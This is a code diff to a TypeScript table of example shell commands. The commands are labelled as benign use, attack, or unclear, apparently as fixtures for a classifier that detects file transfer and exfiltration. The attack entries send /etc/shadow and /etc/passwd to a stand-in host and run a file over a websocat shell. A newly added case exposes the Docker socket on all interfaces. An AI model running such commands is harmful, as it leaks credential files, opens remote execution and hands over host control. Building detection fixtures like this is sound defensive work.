@@ -237,10 +237,16 @@ export const fileTransfer1: ExampleTable = {
     attack: 'http POST http://192.0.2.7/ @/etc/shadow → read /etc/shadow; send http://192.0.2.7/',
   },
   websocat: {
-    use: 'websocat wss://example.org → send wss://example.org',
+    use: [
+      'websocat wss://example.org → send wss://example.org',
+      `websocat ws-l:127.0.0.1:8000 unix:/tmp/app.sock → nothing`,
+    ],
     attack: [
       'cat /etc/passwd | websocat ws://192.0.2.7 → send ws://192.0.2.7',
       'websocat ws://192.0.2.7 sh-c:/tmp/x → run /tmp/x; send ws://192.0.2.7',
+    ],
+    unclear: [
+      `websocat -b ws-l:0.0.0.0:8000 unix:/var/run/docker.sock → what the socket is asked for, and by whom`,
     ],
   },
 }
